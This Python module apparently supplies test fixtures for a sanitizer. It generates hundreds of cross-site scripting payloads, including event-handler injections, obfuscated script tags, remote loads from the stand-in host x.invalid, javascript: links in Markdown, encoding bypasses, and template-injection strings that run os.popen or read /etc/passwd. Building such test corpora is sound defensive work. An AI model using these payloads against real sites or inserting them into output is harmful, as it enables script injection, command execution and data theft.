"""What would run in a reader's browser if a page let it: payloads of our own making, from the public classes.

Each calls `alert(N)` or asks `x.invalid` for something; none may do either.
"""

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "iframe",
    "object data=x",
    "embed src=x",
    "a tabindex=1 autofocus",
    "math",
    "style",
    "textarea autofocus",
    "select autofocus",
    "button autofocus",
    "link rel=stylesheet href=x",
    "dialog open",
    "x-y contenteditable autofocus",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "oncanplay",
    "onbegin",
)
_MARKS = ('{name}="{call}"', "{name}='{call}'", "{name}={call}", "/{name}={call}/")
_BEFORE = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</textarea>",
    "</script>",
    "</noscript>",
    "`>",
    "</p>",
)
_SCRIPTS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script/x>{call}</script>",
    "<script\t>{call}</script\t>",
    "<script src=//x.invalid/{n}.js></script>",
    "<script type=module>import '//x.invalid/{n}.js'</script>",
    "<svg><script>{call}</script></svg>",
    "<svg><script href=//x.invalid/{n}.js /></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{call}"><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload={call}>#x"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>{call}</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<iframe srcdoc='&lt;script&gt;parent.{call}&lt;/script&gt;'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=//x.invalid/{n}/>",
    "<style>@import url(//x.invalid/{n}.css);</style>",
    "<div style='background:url(//x.invalid/{n}.png)'>x</div>",
    "<form action=//x.invalid/{n}><input type=submit autofocus></form>",
    "<object data='data:text/html,<script>parent.{call}</script>'></object>",
    "<template><script>{call}</script></template>",
    "<a href=javascript:{call}>x</a>",
)
_ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "&#106;avascript:{call}",
    "&#x6A;&#x61;vascript&colon;{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "view-source:javascript:{call}",
    "https:javascript:{call}",
    'https://x.invalid/{n}" onmouseover="{call}',
    "//x.invalid/{n}",
)
_LINKS = (
    "[x]({0})",
    "[x](<{0}>)",
    "![x]({0})",
    "<{0}>",
    "[x]: {0}\n\n[x]",
    '[x]({0} "t")',
    '<a href="{0}">x</a>',
    "{0}",
)
_TEMPLATES = (
    "{{{{{call}}}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('echo {n}').read() }}}}",
    "{{% include '/etc/passwd' %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "<?php {call} ?>",
    "{{# comment #}}",
)
_HIDDEN = (
    escape,
    lambda text: escape(escape(text)),
    lambda text: "".join(f"&#{ord(char)};" for char in text),
    lambda text: "".join(f"&#x{ord(char):x}" for char in text),
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("script", "scr\u00adipt"),
)


def payloads() -> tuple[str, ...]:
    """All of them, each with its own number in it."""
    made: list[str] = []
    for pattern in _patterns():
        number = len(made) + 1
        made.append(pattern.replace("CALL", f"alert({number})").replace("NUMBER", str(number)))
    return tuple(made)


def _patterns() -> Iterator[str]:
    told = {"call": "CALL", "n": "NUMBER"}
    for at, (element, handler) in enumerate(product(_ELEMENTS, _HANDLERS)):
        for turn in range(2):
            mark = _MARKS[(at + turn) % len(_MARKS)].format(name=handler, **told)
            yield f"{_BEFORE[(at * 2 + turn) % len(_BEFORE)]}<{element} {mark}>"
    for before, script in product(_BEFORE, _SCRIPTS):
        yield before + script.format(**told)
    for link, address in product(_LINKS, _ADDRESSES):
        yield link.format(address.format(**told))
    yield from (each.format(**told) for each in _TEMPLATES)
    for hide, script in product(_HIDDEN, _SCRIPTS[:16]):
        yield hide(script.format(**told))
    for mark, handler in product(('"', "'", "`", '" autofocus '), _HANDLERS):
        yield f"{mark} {handler}={mark[0]}CALL"
